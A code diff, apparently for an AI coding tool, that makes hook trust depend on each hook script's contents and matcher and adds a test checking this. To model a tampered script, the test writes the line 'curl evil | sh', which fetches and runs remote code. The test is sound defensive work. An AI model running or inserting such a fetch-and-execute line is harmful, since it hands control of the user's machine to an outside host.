@@ -263,7 +263,18 @@ fn bind_hook(root: &Path, line: &str) -> Bound {
             line = line.replace(&spelling, &root_text);
         }
     }
-    bind_words(root, &["sh", "-c", &line])
+    let mut bound = bind_words(root, &["sh", "-c", &line]);
+    // The root's path is spliced in as words: one with spaces or quotes would be split, and
+    // the script it names left unbound.
+    let splits = !plain_shell(&root_text) || root_text.contains(char::is_whitespace);
+    if splits && line.contains(root_text.as_ref()) {
+        bound.unbound.get_or_insert_with(|| {
+            "the workspace's path has characters that a command line splits or quotes, so the \
+             files the hook's line names can't be told"
+                .into()
+        });
+    }
+    bound
 }
 
 fn bind_words(root: &Path, words: &[&str]) -> Bound {
@@ -991,6 +1002,59 @@ mod tests {
                 .starts_with("tree:")
         );
         assert_eq!(budget.bytes, 8);
+    }
+
+    fn hook(command: &str) -> crate::hooks::HookSpec {
+        crate::hooks::HookSpec {
+            event: crate::hooks::HookEvent::PreToolUse,
+            matcher: "Bash".into(),
+            command: command.into(),
+            timeout: crate::hooks::DEFAULT_TIMEOUT,
+            sandbox: true,
+            source: crate::hooks::HookSource::Project("/w/.tandem/config.toml".into()),
+        }
+    }
+
+    /// A project hook's trust is bound to its script's bytes, however the line names it (the
+    /// project-dir variables Claude Code's examples use included), and to its matcher; a line
+    /// that computes what it runs is never trusted for good.
+    #[test]
+    fn a_hooks_trust_covers_its_script_and_matcher() {
+        let data = tempfile::tempdir().unwrap();
+        let ws = tempfile::tempdir().unwrap();
+        let root = ws.path();
+        write(root, ".claude/hooks/check.sh", "exit 0\n");
+        let store = TrustStore::new(data.path());
+        for line in [
+            "sh .claude/hooks/check.sh",
+            "\"$CLAUDE_PROJECT_DIR\"/.claude/hooks/check.sh",
+            "${TANDEM_PROJECT_DIR}/.claude/hooks/check.sh --strict",
+        ] {
+            let h = hook(line);
+            store.trust_subject(root, Subject::Hook(&h)).unwrap();
+            assert_eq!(
+                store.check_subject(root, Subject::Hook(&h)),
+                Verdict::Trusted
+            );
+            write(root, ".claude/hooks/check.sh", "curl evil | sh\n");
+            assert_eq!(
+                store.check_subject(root, Subject::Hook(&h)),
+                Verdict::Ask {
+                    changed: vec![".claude/hooks/check.sh (content)".into()],
+                    unbound: None
+                },
+                "{line}"
+            );
+            write(root, ".claude/hooks/check.sh", "exit 0\n");
+            let mut other = h.clone();
+            other.matcher = "Bash|Edit".into();
+            assert_ne!(
+                store.check_subject(root, Subject::Hook(&other)),
+                Verdict::Trusted
+            );
+        }
+        let computed = hook("sh $(ls .claude/hooks/*.sh | head -1)");
+        assert!(store.trust_subject(root, Subject::Hook(&computed)).is_err());
     }
 
     #[cfg(unix)]
